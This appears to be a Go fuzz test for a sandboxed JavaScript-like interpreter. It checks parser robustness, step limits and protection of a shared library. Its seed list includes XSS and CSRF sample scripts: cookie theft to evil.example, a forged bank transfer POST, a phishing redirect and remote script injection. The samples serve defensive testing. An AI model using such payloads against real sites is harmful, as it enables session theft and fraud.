package script

import (
	"fmt"
	"maps"
	"testing"
	"unsafe"
)

// fuzzSeeds covers the grammar; the attack-corpus bodies below mirror
// internal/attack's §6.4 scripts, so the fuzzer starts from the exact
// shapes the monitor mediates in production (document, Image, and
// XMLHttpRequest resolve to "undefined variable" errors without the
// browser's host globals), and the last seeds write the library.
var fuzzSeeds = []string{
	`var x = 1; x + 2;`,
	`function f(a) { return a * 2; } f(21);`,
	`for (var i = 0; i < 3; i++) { }`,
	`var o = {a: [1, 2]}; o.a[0];`,
	`"str" + 1 + true + null;`,
	`while (x) break;`,
	`new F(1, 2);`,
	`a ? b : c;`,
	`x = /* comment */ 1; // tail`,
	// attack-corpus script bodies (xss.go / csrf.go shapes)
	`var i = new Image(); i.src = "http://evil.example/steal?c=" + encodeURIComponent(document.cookie);`,
	`document.getElementById("announcement").innerText = "OWNED BY MALLORY";`,
	`var x = new XMLHttpRequest(); x.open("POST", "http://bank.example/transfer"); x.send("to=mallory&amount=1000");`,
	`document.getElementById("f").submit();`,
	`document.location = "http://evil.example/phish";`,
	`var ok = attempt(function() { return document.cookie; }); log("leaked", ok);`,
	`var el = document.createElement("script"); el.src = "http://evil.example/payload.js"; document.body.appendChild(el);`,
	// writes aimed at the shared library
	`Math.floor = 1; var m = Math; m.ceil = String; String = 2; attempt = null; z = 3; Math.floor;`,
	`function f() { encodeURIComponent = log; Math = {}; q = 1; } f(); Math.abs(-1);`,
}

// FuzzParse checks the parser never panics and, on whatever parses,
// the interpreter finishes or stops at its step budget without
// panicking. It runs each program twice, in fresh scopes over one
// shared library, as a browser runs a page's scripts: neither run may
// change a library binding or a member of the library's Math, and the
// second run must end as the first did.
func FuzzParse(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		prog, err := Parse(s)
		if err != nil {
			return
		}
		lib := Library(&Console{})
		before, math := snapshot(lib.vars), snapshot(lib.vars["Math"].(*Object).Props)
		var outcome [2]string
		for i := range outcome {
			ip := &Interp{MaxSteps: 20000}
			_, err := ip.Run(prog, lib.Scope(nil)) // termination is the invariant
			outcome[i] = fmt.Sprint(ip.Steps(), err)
		}
		if !maps.Equal(snapshot(lib.vars), before) || !maps.Equal(snapshot(lib.vars["Math"].(*Object).Props), math) {
			t.Fatalf("%q wrote the shared library", s)
		}
		if outcome[0] != outcome[1] {
			t.Fatalf("%q: second run ended %q, first %q", s, outcome[1], outcome[0])
		}
	})
}

// snapshot maps each binding to a comparable identity: a native
// function by the closure it points at, anything else by its value.
func snapshot(vars map[string]Value) map[string]any {
	out := make(map[string]any, len(vars))
	for k, v := range vars {
		if fn, ok := v.(CtxFunc); ok {
			out[k] = *(*unsafe.Pointer)(unsafe.Pointer(&fn))
			continue
		}
		out[k] = v
	}
	return out
}
